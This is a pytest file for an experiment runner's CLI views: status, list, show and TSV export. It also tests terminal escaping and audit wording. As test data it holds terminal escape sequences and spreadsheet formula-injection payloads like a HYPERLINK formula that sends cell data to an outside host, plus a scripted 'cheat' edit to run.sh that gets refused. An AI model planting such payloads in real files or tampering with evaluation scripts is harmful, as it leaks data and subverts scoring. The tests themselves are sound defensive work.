from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace

import pytest
from click.testing import CliRunner, Result
from fakes import (
    POLICY_TEXT,
    TAG,
    FakeSandbox,
    ScriptedAgent,
    crashed,
    edit,
    make_session,
    scored,
    timed_out,
)
from rich.table import Table

from runner.by_hand import patch
from runner.characters import visible
from runner.cli import cli
from runner.decision import Direction, Metric
from runner.errors import SandboxError
from runner.journal.reader import open_reader
from runner.records import (
    Beside,
    Change,
    Experiment,
    ExperimentStatus,
    Proposal,
    Purpose,
    Score,
    TrialRecord,
    TrialResult,
    TrialSpec,
    TrialStatus,
)
from runner.scheduler import run_loop
from runner.views import documents, export, lines, page, reading, summary
from runner.views.live import Live
from runner.views.standing import standing_of

RANK = Metric(name="mean_rank", direction=Direction.MINIMIZE, round_to=0.5)
RECALL = Metric(name="recall", direction=Direction.MAXIMIZE, round_to=0.001)
ESCAPES = "\x1b[2Jred\r\x00\u202e"
PROPOSALS = (
    edit("WIDTH = 32", "WIDTH = 64", "raise WIDTH 32 -> 64"),
    edit("WIDTH = 32", "WIDTH = 65", f"crash [bold]{ESCAPES}"),
    edit("WIDTH = 32", "WIDTH = 66", "too slow"),
    Proposal(hypothesis="cheat", changes=(Change(path="run.sh", content=b"\x1b[2J\n"),)),
)


def answer(spec: TrialSpec) -> TrialResult:
    if spec.purpose is Purpose.AUDIT:
        return scored({0: 105.0, 1: 93.0}[spec.experiment])
    crash = crashed(f"train: ValueError: {ESCAPES}")
    found = {0: scored(100.0), 1: scored(90.0), 2: crash, 3: timed_out()}[spec.experiment]
    logs = {"train": ESCAPES.encode()} if spec.experiment == 2 else {}
    share = 0.41 if spec.experiment == 1 else 0.97
    more = {"peak_memory_bytes": 2**30, "processor_share": share, "logs": logs}
    return TrialResult(**vars(found) | more)


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    """A run with one experiment of each kind, written once and only read below."""
    folder = tmp_path_factory.mktemp("views")
    with make_session(folder, FakeSandbox(answer)) as session:
        run_loop(session, ScriptedAgent(PROPOSALS), experiments=None)
        session.journal.event(TAG, "run.paused", message="the disk is full")
    return folder / "state"


@pytest.fixture
def invoke(home, monkeypatch) -> Callable[..., Result]:
    monkeypatch.setenv("RUNNER_HOME", str(home))

    def invoked(*arguments: str) -> Result:
        result = CliRunner().invoke(cli, arguments)
        assert result.exit_code == 0, result.output
        return result

    return invoked


# -- the reading commands ---------------------------------------------------------------------


def test_status_says_where_the_run_stands(invoke):
    shown = invoke("status", TAG).output
    assert "mean_rank 90.0 (experiment 1, as it was when kept), baseline 100.0" in shown
    assert "gain +12 against +10 on the holdout, the two agree" in shown
    assert "4 after the baseline: 1 kept, 0 reverted, 1 crashed, 1 timed out" in shown
    assert "the disk is full" in shown


def test_a_trial_that_had_little_of_the_machine_is_marked_everywhere(invoke):
    assert "2 of 6 trials had less than 60% of the processor time" in invoke("status", TAG).output
    assert json.loads(invoke("status", TAG, "--json").output)["crowded_trials"] == 2
    assert "2 trials on a crowded machine" in invoke("list", TAG).output
    assert invoke("show", "1").output.count("crowded: training had 41% of its processor time") == 2
    marked = [
        trial["crowded"] for trial in json.loads(invoke("show", "1", "--json").output)["trials"]
    ]
    assert marked == [True, True, False]
    assert "crowded" not in invoke("show", "0").output


def test_without_a_tag_the_newest_run_is_shown(invoke):
    assert invoke("status").output == invoke("status", TAG).output


@pytest.mark.parametrize(
    "arguments", [("status",), ("list",), ("list", TAG), ("show", "1"), ("export",)]
)
def test_every_reading_command_speaks_json(invoke, arguments):
    document = json.loads(invoke(*arguments, "--json").output)
    assert document


def test_a_crash_has_no_score_anywhere(invoke):
    found = json.loads(invoke("list", TAG, "--json").output)[2]
    assert (found["status"], found["score"], found["gain"]) == ("crashed", None, None)
    assert found["trials"][0]["metrics"] is None


def test_results_tsv_is_the_first_autoresearch_s_table(invoke, home):
    invoke("export", TAG)
    with (home / "runs" / TAG / "results.tsv").open(newline="") as file:
        rows = list(csv.DictReader(file, delimiter="\t"))
    assert list(rows[0]) == ["commit", "mean_rank", "memory_gb", "status", "description"]
    assert [row["mean_rank"] for row in rows] == ["100.000000", "90.000000", "", "", ""]
    assert [row["memory_gb"] for row in rows] == ["1.00", "1.00", "1.00", "1.00", ""]
    assert [row["status"] for row in rows] == ["kept", "kept", "crashed", "timeout", "refused"]
    assert all(len(row["commit"]) == 7 for row in rows)


def test_export_to_standard_output_writes_no_file(invoke, home):
    (home / "runs" / TAG / "results.tsv").unlink(missing_ok=True)
    assert invoke("export", "--output", "-").output.startswith("commit\tmean_rank\t")
    assert not (home / "runs" / TAG / "results.tsv").exists()


def test_show_has_the_diff_the_trials_and_the_reason(invoke):
    shown = invoke("show", "1").output
    assert "-WIDTH = 32\n+WIDTH = 64\n" in shown
    assert "KEPT" in shown
    assert shown.count("decision") == 2
    assert shown.count("audit") == 1


CRLF = edit("WIDTH = 32\n", "WIDTH = 33  # a\u00a0b\u200dc \x1b[1m\r\n", "other letters")


def test_a_diff_is_a_patch_in_a_pipe_and_in_json_and_readable_on_a_terminal(tmp_path, monkeypatch):
    monkeypatch.setenv("RUNNER_HOME", str(tmp_path / "state"))
    printed = "1\r2\r\n"

    def answer(_: TrialSpec) -> TrialResult:
        return TrialResult(**vars(scored(100.0)) | {"logs": {"train": printed.encode()}})

    with make_session(tmp_path, FakeSandbox(answer)) as session:
        run_loop(session, ScriptedAgent([CRLF]), experiments=None)
        found = session.read(1)
        raw = session.workspace.diff(found.parent_commit, found.attempt_commit)
        draft = session.workspace.files(found.parent_commit)
    assert "\u200dc \x1b[1m\r\n" in raw
    piped = CliRunner().invoke(cli, ["show", "1", "--diff"]).stdout_bytes
    assert piped.decode() == raw
    changed = {each.path: each.content for each in patch.changes(draft, piped)}
    assert changed == {each.path: each.content for each in CRLF.changes}
    document = json.loads(CliRunner().invoke(cli, ["show", "1", "--json"]).stdout)
    assert document["diff"] == raw
    assert set(document["log"].values()) <= {printed}

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = Terminal()
    monkeypatch.setattr("sys.stdout", terminal)
    reading.print_patch(raw)
    assert "\\x1b[1m\\x0d\n" in terminal.getvalue()
    assert not set(terminal.getvalue()) & set("\x1b\r\u200d")


def test_names_stand_in_one_column_whatever_the_metric_is_called(home):
    with open_reader(home / "journal.sqlite") as journal:
        run, kept = (
            replace(journal.runs()[0], metric="matthews_corrcoef"),
            journal.experiment(TAG, 1),
        )
    assert kept
    shown = page.heading(run, kept, Beside()).splitlines()
    assert {line[12:14] for line in shown} == {"  "}
    assert any(line.endswith("score  matthews_corrcoef 90.0 (Δ -10.0)") for line in shown)


def test_show_of_a_refusal_names_the_rule_and_still_has_the_diff(invoke):
    shown = invoke("show", "4").output
    assert "REFUSED by rule path-not-mutable" in shown
    assert "+\\x1b[2J" in shown


@pytest.mark.parametrize(
    "arguments",
    [
        ("status",),
        ("list", TAG),
        ("show", "2"),
        ("show", "2", "--log"),
        ("show", "4", "--diff", "--trials"),
        ("export", "--output", "-"),
    ],
)
def test_nothing_from_inside_reaches_the_terminal_raw(invoke, arguments):
    shown = invoke(*arguments).output
    assert not set(shown) & set("\x1b\r\x00\u202e")


def test_markup_in_a_hypothesis_is_text(invoke):
    assert "crash [bold]" in invoke("list", TAG).output


def test_what_stands_between_colons_is_no_picture(capsys):
    said = "layers 50:100:50 :fire:"
    table = Table("tried")
    table.add_row(said)
    reading.print_rich(said, table)
    Live().say(said)
    assert capsys.readouterr().out.count(said) == 3


@pytest.mark.parametrize("arguments", [("status", "t9"), ("show", "99"), ("list", "t9")])
def test_what_there_is_not_is_named_with_what_there_is(invoke, arguments):
    result = CliRunner().invoke(cli, arguments)
    assert result.exit_code == 2
    assert TAG in result.output.partition("hint:")[2]


# -- lines ------------------------------------------------------------------------------------


def ended(status: ExperimentStatus, **more: object) -> Experiment:
    given = {
        "run": "t1", "number": 3, "parent_commit": "", "category": "", "changes": (),
        "hypothesis": "raise LOGIT_SCALE_MAX 2 -> 100", "wall_seconds": 34.2,
    }  # fmt: skip
    return Experiment(status=status, **(given | more))


def test_a_kept_experiment_s_line():
    found = ended(ExperimentStatus.KEPT, score=41.0, gain=3.0)
    assert lines.experiment_line(RANK, found) == (
        "exp 3 | mean_rank 41.0 (Δ -3.0) | KEPT     | raise LOGIT_SCALE_MAX 2 -> 100 | 34 s"
    )


def test_a_refused_experiment_s_line_says_which_rule_and_has_no_number():
    found = ended(ExperimentStatus.REFUSED, rule="process", reason="uses os.system")
    assert lines.experiment_line(RANK, found) == (
        "exp 3 | mean_rank - | REFUSED  | raise LOGIT_SCALE_MAX 2 -> 100 "
        "[process: uses os.system] | 34 s"
    )


@pytest.mark.parametrize("status", ExperimentStatus)
def test_every_status_has_a_label_and_a_count(status):
    assert lines.label(ended(status))
    assert status in [counted for counted, _ in summary.COUNTED]


@pytest.mark.parametrize(
    ("metric", "gain", "shown"),
    [
        (RANK, 3.0, "(Δ -3.0)"),
        (RANK, -3.0, "(Δ +3.0)"),
        (RANK, 0.0, "(Δ +0.0)"),
        (RECALL, 0.25, "(Δ +0.250)"),
        (RECALL, -0.25, "(Δ -0.250)"),
        (RANK, None, ""),
    ],
)
def test_a_gain_reads_as_the_metric_s_own_change(metric, gain, shown):
    found = ended(ExperimentStatus.REVERTED, score=50.0, gain=gain)
    assert lines.change(metric, found)[1] == shown


@pytest.mark.parametrize(
    ("step", "value", "shown"),
    [
        (0.5, 41, "41.0"),
        (0.01, 0.25, "0.25"),
        (0.001, 0.5, "0.500"),
        (10, 41.25, "41.2"),
        (1, None, "-"),
    ],
)
def test_a_score_has_the_decimals_of_its_step(step, value, shown):
    metric = Metric(name="x", direction=Direction.MINIMIZE, round_to=step)
    assert lines.number(metric, value) == shown


@pytest.mark.parametrize("text", [ESCAPES, "a\nb", "x" * 1000, "\u2028", "\x9b31m"])
def test_plain_is_one_printable_line_of_bounded_length(text):
    shown = lines.plain(text)
    assert shown.isprintable()
    assert len(shown) <= lines.MAX_HYPOTHESIS


def test_visible_keeps_lines_and_shows_what_a_terminal_would_obey():
    assert visible("a\tb\n\x1b[0m\x9b\u202e") == "a\tb\n\\x1b[0m\\x9b\\x202e"


# -- the audit's sentence ---------------------------------------------------------------------


def audited(number: int, score: float, *audits: float | None) -> Experiment:
    trials = tuple(
        TrialRecord(
            purpose=Purpose.AUDIT,
            split="train",
            index=seed,
            seed=seed,
            asked_by=number,
            result=TrialResult(
                status=TrialStatus.CRASHED if value is None else TrialStatus.SCORED,
                reason="",
                score=None if value is None else Score(metrics={"mean_rank": value}),
            ),
        )
        for seed, value in enumerate(audits)
    )
    return ended(ExperimentStatus.KEPT, score=score, trials=trials, number=number)


@pytest.mark.parametrize(
    ("top", "says"),
    [
        (audited(3, 80.0, 85.0), "the two agree"),
        (audited(3, 80.0, 95.0), "the two agree"),
        (audited(3, 80.0, 100.0), "THEY DISAGREE"),
        (audited(3, 80.0, 130.0), "THEY DISAGREE"),
        (audited(3, 80.0, None), "not complete"),
        (audited(3, 80.0, 85.0, None), "not complete"),
        (audited(3, 80.0), "not complete"),
        (audited(0, 100.0, 105.0), "nothing was kept yet"),
    ],
)
def test_the_audit_s_gain_is_compared_with_the_gain_that_decided(top, says):
    assert says in summary.audit_sentence(RANK, audited(0, 100.0, 105.0), top)


def test_a_score_that_the_code_says_itself_is_sent_to_no_audit(home):
    with open_reader(home / "journal.sqlite") as journal:
        run = journal.runs()[0]
        sealed, own = (
            summary.belief(standing_of(journal, replace(run, self_reported=own)))
            for own in (False, True)
        )
    assert "not by itself: 1 keep" in sealed
    assert "look at the audit" in sealed
    assert own == (
        "as far as you believe the code, whose own score it is:"
        " how many of 1 keep are luck is not known"
    )


def test_an_agent_with_a_shell_makes_the_result_advisory():
    assert "ADVISORY" in summary.trust("none")
    for sound in ("api", "contained", "tool-restricted"):
        assert sound in summary.trust(sound)
        assert "ADVISORY" not in summary.trust(sound)


@pytest.mark.parametrize(
    ("scores", "fixed"), [((), False), ((1.0,), False), ((1.0, 2.0), False), ((1.0, 1.0), True)]
)
def test_a_script_is_said_to_fix_its_seed_only_where_draws_change_nothing(home, scores, fixed):
    told = audited(0, 100.0, *scores)
    trials = tuple(replace(trial, purpose=Purpose.DECISION) for trial in told.trials)
    with open_reader(home / "journal.sqlite") as journal:
        standing = standing_of(journal, replace(journal.runs()[0], self_reported=True))
    rows = summary.trust_rows(replace(standing, baseline=replace(told, trials=trials)))
    assert (("seed", summary.FIXED_SEED) in rows) is fixed


def test_a_run_document_says_whether_it_is_advisory(home):
    with make_session(home.parent, FakeSandbox(answer)) as session:
        document = documents.run_document(standing_of(session.journal, session.run))
    assert document["advisory"] is False
    assert document["best"]["number"] == 1
    assert "policy_text" not in document


def test_an_unfinished_experiment_is_said_to_be(tmp_path, monkeypatch):
    def gone(spec: TrialSpec) -> TrialResult:
        raise SandboxError("gone")

    with (
        make_session(tmp_path, FakeSandbox(gone), policy_text=POLICY_TEXT) as session,
        pytest.raises(SandboxError),
    ):
        run_loop(session, ScriptedAgent(()), experiments=None)
    monkeypatch.setenv("RUNNER_HOME", str(tmp_path / "state"))
    shown = CliRunner().invoke(cli, ["status"]).output
    assert "experiment 0 ends on resume" in shown
    assert "UNFINISHED" in CliRunner().invoke(cli, ["list", TAG]).output


# -- a table that a spreadsheet opens ---------------------------------------------------------


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"])  # noqa: RUF001
def test_no_text_of_the_table_is_a_formula(sign):
    hypothesis = f'{sign}HYPERLINK("http://example.org?"&A1)'
    found = ended(ExperimentStatus.KEPT, hypothesis=hypothesis, score=-1.5)
    table = export.tsv([export.row(found, "loss")], {"loss": [-1.5]})
    [row] = csv.DictReader("".join(table).splitlines(), delimiter="\t")
    assert row["description"] == f"'{hypothesis.strip()}"
    assert float(row["loss"]) == -1.5


@pytest.mark.parametrize("hypothesis", ["raise x by -1", "a=b", "1 + 1", "wider @ 64", "'=1"])
def test_other_text_stays_as_it_is(hypothesis):
    table = export.tsv(
        [export.row(ended(ExperimentStatus.KEPT, hypothesis=hypothesis), "loss")], {}
    )
    [row] = csv.DictReader("".join(table).splitlines(), delimiter="\t")
    assert row["description"] == hypothesis


def test_a_column_s_name_is_no_formula_either():
    assert "".join(export.tsv([{"=1": 2.0}], {})).startswith("'=1\n2.0")
